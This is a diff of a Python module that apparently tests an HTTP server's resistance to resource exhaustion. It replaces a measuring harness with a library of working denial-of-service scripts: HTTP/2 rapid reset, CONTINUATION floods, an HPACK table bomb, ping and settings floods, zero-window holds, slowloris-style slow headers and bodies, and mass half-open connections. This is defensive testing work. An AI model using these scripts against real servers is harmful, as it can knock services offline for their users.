@@ -1,217 +1,333 @@
-#!/usr/bin/env python3
-"""Attacks a server and looks how it and its good clients fare; README.md tells more.
+"""What somebody does who wants a server's memory, time or connections, and does not want answers.
 
-  floods.py 127.0.0.1:7480 --pid 1234
-  floods.py -- sluice serve --listen 127.0.0.1:0 --http 127.0.0.1:{port}
-
-Held: every attacker is cut in time, the memory of the server grows by less than 32 MiB, and a good
-client keeps half its rate or more; the last is told and not held with --any-rate.
+An attack is a script of bytes that is played on many connections at once, by one thread.
 """
 
 from __future__ import annotations
 
-import argparse
-import multiprocessing
-import os
-import sys
+import errno
+import itertools
+import resource
+import select
+import socket
 import time
-from dataclasses import dataclass
-from multiprocessing.connection import Connection as Pipe
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
 
-import server
-from attacks import ATTACKS, Attack, Outcome, Siege, Target
-from wire import Connection, Late, Lost, Violation
+import hpack
 
-GROWTH_MAX_BYTES = 32 << 20
-RATE_SHARE_MIN = 0.5
-# The machine may have had something else to do; who starves the client does so every time.
-RATE_ATTEMPTS = 3
-BASELINE_SECONDS = 1.0
-# Attackers that are cut come again for so long.
-SIEGE_SECONDS = 2.0
-# A good client changes its connection now and then: that it gets a new one is part of the proof.
-REQUESTS_PER_CONNECTION = 200
+from blocks import INDEXING, NEVER, NEWEST, indexed, literal, string
+from wire import (
+    END_HEADERS, END_STREAM, FRAME_BYTES, HEADER_BYTES, PREFACE, Setting, Type, data, ping, raw,
+    reset, settings,
+)
 
-
-class GoodClient:
-    """A process that asks one thing after the other."""
-
-    def __init__(self, target: Target):
-        self.answered = multiprocessing.Value("Q", 0)
-        self.failed = multiprocessing.Value("Q", 0)
-        self.process = multiprocessing.Process(target=self._ask, args=(target,), daemon=True)
-
-    def __enter__(self) -> GoodClient:
-        self.process.start()
-        return self
-
-    def __exit__(self, *_: object) -> None:
-        self.process.kill()
-        self.process.join()
-
-    def _ask(self, target: Target) -> None:
-        while True:
-            try:
-                self._ask_on_one_connection(target)
-            except (OSError, Late, Lost, Violation) as error:
-                print(f"      a good client: {error!r}", file=sys.stderr)
-                self.failed.value += 1
-
-    def _ask_on_one_connection(self, target: Target) -> None:
-        c = Connection(target.address, path=target.path)
-        try:
-            c.shake_hands()
-            for stream in range(1, 2 * REQUESTS_PER_CONNECTION, 2):
-                c.send(c.headers(stream, c.get()))
-                c.wait(lambda: c.answer(stream).ended or stream in c.resets or c.goaway)
-                if c.answer(stream).status != "200":
-                    raise Violation(f"{c.answer(stream).status}, {c.story[-1]}")
-                self.answered.value += 1
-        finally:
-            c.close()
+# What is handed to the kernel at once.
+CHUNK_BYTES = 65_536
+STREAM_MAX = 2**31 - 1
+START = PREFACE + settings()
 
 
-class Rate:
-    """Answers a second to the good client, from now on."""
+@dataclass(frozen=True)
+class Target:
+    address: tuple[str, int]
+    path: str
+    post: str
 
-    def __init__(self, client: GoodClient):
-        self.client = client
-        self.since, self.before = time.monotonic(), client.answered.value
+    @property
+    def authority(self) -> str:
+        return "%s:%d" % self.address
 
-    def __call__(self) -> float:
-        count = self.client.answered.value - self.before
-        return count / (time.monotonic() - self.since)
+    def block(self, method: str, *more: tuple[str, str]) -> bytes:
+        """A field block that needs no dynamic table, so that it may be sent any number of times."""
+        path = self.path if method == "GET" else self.post
+        fields = [
+            (":method", method), (":scheme", "http"), (":authority", self.authority),
+            (":path", path), *more,
+        ]
+        return hpack.Encoder().encode([(*field, True) for field in fields])
+
+    def opened(self, stream: int = 1, *more: tuple[str, str]) -> bytes:
+        """A request whose body is to come."""
+        return raw(Type.HEADERS, END_HEADERS, stream, self.block("POST", *more))
 
 
-class Memory:
-    """How far a process grew beyond what it is now."""
+Script = Callable[[Target], Iterator[bytes]]
 
-    def __init__(self, pid: int | None):
-        self.pid = pid
-        if pid is not None:
-            # Sets the peak back to what is resident now.
-            with open(f"/proc/{pid}/clear_refs", "w") as file:
-                file.write("5")
-            self.before = self._peak()
 
-    def _peak(self) -> int:
-        with open(f"/proc/{self.pid}/status") as file:
-            line = next(line for line in file if line.startswith("VmHWM:"))
-        return int(line.split()[1]) << 10
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    script: Script
+    # Seconds until every connection of it must be cut.
+    within: float = 1
+    connections: int = 4
+    # Seconds between the parts of the script; None: as fast as they are taken.
+    pause: float | None = None
+    reads: bool = True
+    # So many streams that the server ends are as good as an end of the connection.
+    streams: int = 0
 
-    def growth(self) -> int | None:
-        return None if self.pid is None else self._peak() - self.before
+
+def batched(frames: Iterator[bytes]) -> Iterator[bytes]:
+    """Frames put together until they are worth a system call."""
+    batch = bytearray()
+    for frame in frames:
+        batch += frame
+        if len(batch) >= CHUNK_BYTES:
+            yield bytes(batch)
+            batch.clear()
+
+
+def repeated(frame: bytes) -> Iterator[bytes]:
+    return itertools.repeat(frame * (CHUNK_BYTES // len(frame) + 1))
+
+
+def rapid_reset(target: Target) -> Iterator[bytes]:
+    block = target.block("GET")
+    yield START
+    yield from batched(
+        raw(Type.HEADERS, END_HEADERS | END_STREAM, stream, block) + reset(stream)
+        for stream in range(1, STREAM_MAX, 2)
+    )
+
+
+def continuation(target: Target) -> Iterator[bytes]:
+    yield START + raw(Type.HEADERS, END_STREAM, 1, target.block("GET"))
+    field = literal(NEVER, "x", string("y" * 1_000))
+    fields = field * (FRAME_BYTES // len(field))
+    yield from repeated(raw(Type.CONTINUATION, 0, 1, fields))
+
+
+def empty_continuation(target: Target) -> Iterator[bytes]:
+    yield START + raw(Type.HEADERS, END_STREAM, 1, target.block("GET"))
+    yield from repeated(raw(Type.CONTINUATION, 0, 1))
+
+
+def pings(target: Target) -> Iterator[bytes]:
+    yield START
+    yield from repeated(ping())
+
+
+def many_settings(target: Target) -> Iterator[bytes]:
+    yield START
+    yield from repeated(settings((Setting.INITIAL_WINDOW_SIZE, 70_000)))
+
+
+def empty_data(target: Target) -> Iterator[bytes]:
+    yield START + target.opened()
+    yield from repeated(data(1))
+
+
+def hpack_bomb(target: Target) -> Iterator[bytes]:
+    # One entry that fills the table, and blocks in which each octet stands for all of it.
+    entry = literal(INDEXING, "x", string("y" * 4_000))
+    request = target.block("GET")
+    yield START + raw(Type.HEADERS, END_HEADERS | END_STREAM, 1, request + entry)
+    bomb = request + indexed(NEWEST) * (FRAME_BYTES - len(request))
+    for stream in range(3, STREAM_MAX, 2):
+        yield raw(Type.HEADERS, END_HEADERS | END_STREAM, stream, bomb)
+
+
+WINDOW_0_STREAMS = 50
+
+
+def window_0(target: Target) -> Iterator[bytes]:
+    yield PREFACE + settings((Setting.INITIAL_WINDOW_SIZE, 0))
+    yield b"".join(
+        raw(Type.HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, target.block("GET"))
+        for n in range(WINDOW_0_STREAMS)
+    )
+
+
+def slow_preface(target: Target) -> Iterator[bytes]:
+    yield from (bytes([byte]) for byte in PREFACE)
+
+
+def slow_headers(target: Target) -> Iterator[bytes]:
+    # Of so long a field the last byte would come after half an hour.
+    block = target.block("GET") + literal(NEVER, "x", string("y" * 4_000))
+    yield START + raw(Type.HEADERS, END_HEADERS | END_STREAM, 1, block)[:-4_000]
+    yield from itertools.repeat(b"y")
+
+
+def slow_body(target: Target) -> Iterator[bytes]:
+    yield START + target.opened(1, ("content-length", "4000"))
+    yield from itertools.repeat(data(1, b"y"))
+
+
+def http1(target: Target, *fields: str) -> bytes:
+    lines = [f"POST {target.post} HTTP/1.1", f"Host: {target.authority}", *fields]
+    return "".join(f"{line}\r\n" for line in lines).encode()
+
+
+def http1_slow_headers(target: Target) -> Iterator[bytes]:
+    yield http1(target) + b"X-Slow: "
+    yield from itertools.repeat(b"y")
+
+
+def http1_slow_body(target: Target) -> Iterator[bytes]:
+    yield http1(target, "Content-Length: 4000", "")
+    yield from itertools.repeat(b"y")
+
+
+def unread(target: Target) -> Iterator[bytes]:
+    yield PREFACE + settings((Setting.INITIAL_WINDOW_SIZE, STREAM_MAX))
+    block = target.block("GET")
+    yield from batched(
+        raw(Type.HEADERS, END_HEADERS | END_STREAM, stream, block)
+        for stream in range(1, STREAM_MAX, 2)
+    )
+
+
+def http1_unread(target: Target) -> Iterator[bytes]:
+    lines = [f"GET {target.path} HTTP/1.1", f"Host: {target.authority}", "", ""]
+    yield from repeated("\r\n".join(lines).encode())
+
+
+def half_open(target: Target) -> Iterator[bytes]:
+    yield b""
+
+
+SLOW = {"within": 6, "connections": 50, "pause": 0.5}
+
+ATTACKS = [
+    Attack("rapid-reset", rapid_reset),
+    Attack("continuation", continuation),
+    Attack("empty-continuation", empty_continuation),
+    Attack("ping", pings),
+    Attack("ping-unread", pings, reads=False),
+    Attack("settings", many_settings),
+    Attack("settings-unread", many_settings, reads=False),
+    Attack("empty-data", empty_data),
+    Attack("hpack-bomb", hpack_bomb),
+    Attack("window-0", window_0, streams=WINDOW_0_STREAMS, within=6, connections=50),
+    Attack("slow-preface", slow_preface, **SLOW),
+    Attack("slow-headers", slow_headers, streams=1, **SLOW),
+    Attack("slow-body", slow_body, streams=1, **SLOW),
+    Attack("http1-slow-headers", http1_slow_headers, **SLOW),
+    Attack("http1-slow-body", http1_slow_body, **SLOW),
+    Attack("half-open", half_open, within=6, connections=1_000),
+    Attack("unread", unread, reads=False, within=6, connections=50),
+    Attack("http1-unread", http1_unread, reads=False, within=6, connections=50),
+]
 
 
 @dataclass
-class Result:
-    attack: Attack
-    outcome: Outcome
-    growth: int | None
-    rate_before: float
-    rate: float
-    failed: int
-    any_rate: bool
+class Outcome:
+    """How an attack went: seconds until each connection was cut, and how many never were."""
+
+    cuts: list[float] = field(default_factory=list)
+    uncut: int = 0
+
+
+class Attacker:
+    """One connection of an attack."""
+
+    def __init__(self, attack: Attack, target: Target):
+        self.attack = attack
+        self.began = time.monotonic()
+        self.next_part = self.began
+        self.parts = attack.script(target)
+        self.unsent = memoryview(b"")
+        self.unread = bytearray()
+        self.ended_streams = 0
+        self.cut = self.exhausted = False
+        self.socket = socket.socket()
+        self.socket.setblocking(False)
+        self.socket.connect_ex(target.address)
+
+    def write(self) -> None:
+        """As much as the kernel takes and the script's pauses allow."""
+        if not self.unsent and not self.exhausted and time.monotonic() >= self.next_part:
+            self.next_part = time.monotonic() + (self.attack.pause or 0)
+            try:
+                self.unsent = memoryview(next(self.parts))
+            except StopIteration:
+                self.exhausted = True
+        if self.unsent:
+            self.unsent = self.unsent[self.socket.send(self.unsent) :]
 
     @property
-    def starves(self) -> bool:
-        return not self.any_rate and self.rate < RATE_SHARE_MIN * self.rate_before
+    def wants_to_write(self) -> bool:
+        if self.unsent:
+            return True
+        return not self.exhausted and time.monotonic() >= self.next_part
 
-    @property
-    def misses(self) -> list[str]:
-        misses = []
-        if self.outcome.uncut:
-            misses.append(f"{self.outcome.uncut} of {self.attack.connections} were never cut")
-        elif max(self.outcome.cuts, default=0) > self.attack.within:
-            misses.append(f"cut after more than {self.attack.within:g} s")
-        if self.growth is not None and self.growth > GROWTH_MAX_BYTES:
-            misses.append(f"memory grew by more than {GROWTH_MAX_BYTES >> 20} MiB")
-        if self.starves:
-            misses.append("the good client lost more than half its rate")
-        if self.failed:
-            misses.append(f"the good client failed {self.failed} times")
-        return misses
+    def read(self) -> None:
+        read = self.socket.recv(CHUNK_BYTES)
+        self.cut = not read
+        if self.attack.streams:
+            self.unread += read
+            self._count_ended_streams()
 
-    def row(self) -> str:
-        cut = "never" if self.outcome.uncut else f"{max(self.outcome.cuts, default=0):.2f} s"
-        growth = "-" if self.growth is None else f"{self.growth / (1 << 20):.1f} MiB"
-        share = 100 * self.rate / self.rate_before if self.rate_before else 0
-        return (
-            f"{self.attack.name:<20}{cut:>8}{len(self.outcome.cuts):>7}{growth:>11}"
-            f"{self.rate_before:>9.0f}{self.rate:>9.0f}{share:>6.0f} %  "
-            f"{'; '.join(self.misses) or 'ok'}"
-        )
+    def _count_ended_streams(self) -> None:
+        while len(self.unread) >= HEADER_BYTES:
+            length = int.from_bytes(self.unread[:3], "big")
+            if len(self.unread) < HEADER_BYTES + length:
+                return
+            type, flags = self.unread[3], self.unread[4]
+            ends = type in (Type.DATA, Type.HEADERS) and flags & END_STREAM
+            self.ended_streams += bool(ends or type == Type.RST_STREAM)
+            del self.unread[: HEADER_BYTES + length]
+        self.cut |= self.ended_streams >= self.attack.streams
 
 
-HEAD = (
-    f"{'attack':<20}{'cut in':>8}{'times':>7}{'memory':>11}{'rate/s':>9}{'during':>9}{'':>8}"
-)
+class Siege:
+    """An attack on all its connections; who is cut comes again, as long as it lasts."""
 
+    def __init__(self, attack: Attack, target: Target, seconds: float):
+        self.attack, self.target = attack, target
+        self.until = time.monotonic() + seconds
+        self.outcome = Outcome()
+        self.poll = select.epoll()
+        self.attackers: dict[int, Attacker] = {}
+        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
 
-def besiege(attack: Attack, target: Target, pipe: Pipe) -> None:
-    # An attacker has a machine of its own. Here it has what the server and its client leave.
-    os.nice(10)
-    # A slow attacker is not in a hurry to come again.
-    seconds = SIEGE_SECONDS if attack.within <= SIEGE_SECONDS else 0
-    pipe.send(Siege(attack, target, seconds).run())
+    def run(self) -> Outcome:
+        for _ in range(self.attack.connections):
+            self._open()
+        # Who came last has the attack's limit too, and a bit, so that a miss is told in seconds.
+        end = self.until + self.attack.within + 1
+        while self.attackers and time.monotonic() < end:
+            self._turn()
+        self.outcome.uncut = len(self.attackers)
+        return self.outcome
 
+    def _open(self) -> None:
+        attacker = Attacker(self.attack, self.target)
+        self.attackers[attacker.socket.fileno()] = attacker
+        self.poll.register(attacker.socket, self._interest(attacker))
 
-def measure(attack: Attack, target: Target, options: argparse.Namespace) -> Result:
-    with GoodClient(target) as client:
-        ours, theirs = multiprocessing.Pipe()
-        # The first answers tell of a start, not of a rate.
-        while client.answered.value < REQUESTS_PER_CONNECTION and not client.failed.value:
-            time.sleep(0.02)
-        rate = Rate(client)
-        time.sleep(BASELINE_SECONDS)
-        rate_before, failed = rate(), client.failed.value
-        memory, rate = Memory(options.pid), Rate(client)
-        attacker = multiprocessing.Process(target=besiege, args=(attack, target, theirs))
-        attacker.start()
-        time.sleep(SIEGE_SECONDS)
-        during = rate()
-        outcome = ours.recv()
-        attacker.join()
-        return Result(
-            attack, outcome, memory.growth(), rate_before, during, client.failed.value - failed,
-            options.any_rate,
-        )
+    def _interest(self, attacker: Attacker) -> int:
+        interest = select.EPOLLRDHUP | (select.EPOLLIN if self.attack.reads else 0)
+        return interest | (select.EPOLLOUT if attacker.wants_to_write else 0)
 
+    def _turn(self) -> None:
+        for descriptor, events in self.poll.poll(self.attack.pause or 0.1):
+            attacker = self.attackers[descriptor]
+            try:
+                if events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
+                    attacker.cut = True
+                elif events & select.EPOLLIN:
+                    attacker.read()
+                if events & select.EPOLLOUT and not attacker.cut:
+                    attacker.write()
+            except BlockingIOError:
+                pass
+            except OSError as error:
+                if error.errno not in (errno.EPIPE, errno.ECONNRESET, errno.ECONNREFUSED):
+                    raise
+                attacker.cut = True
+            if attacker.cut:
+                self._bury(attacker)
+        for attacker in self.attackers.values():
+            self.poll.modify(attacker.socket, self._interest(attacker))
 
-def arguments() -> argparse.Namespace:
-    parser = server.parser(__doc__)
-    parser.add_argument(
-        "--attack", action="append", metavar="NAME", help="only this one; repeat it",
-        choices=[attack.name for attack in ATTACKS],
-    )
-    parser.add_argument(
-        "--any-rate", action="store_true",
-        help="where attackers, server and client share a few cores, their scheduler decides it",
-    )
-    return server.parse(parser)
-
-
-def main() -> int:
-    # The attackers share nothing with this process, and need not import it all again.
-    multiprocessing.set_start_method("fork")
-    options = arguments()
-    results = []
-    with server.running(options):
-        target = Target(options.address, options.path, options.post)
-        print(HEAD, flush=True)
-        for attack in ATTACKS:
-            if options.attack and attack.name not in options.attack:
-                continue
-            for _ in range(RATE_ATTEMPTS):
-                result = measure(attack, target, options)
-                if len(result.misses) > 1 or not result.starves:
-                    break
-            results.append(result)
-            print(results[-1].row(), flush=True)
-    missed = sum(bool(result.misses) for result in results)
-    print(f"{len(results) - missed} ok, {missed} missed")
-    return 1 if missed else 0
-
-
-if __name__ == "__main__":
-    sys.exit(main())
+    def _bury(self, attacker: Attacker) -> None:
+        self.outcome.cuts.append(time.monotonic() - attacker.began)
+        del self.attackers[attacker.socket.fileno()]
+        attacker.socket.close()
+        if time.monotonic() < self.until:
+            self._open()
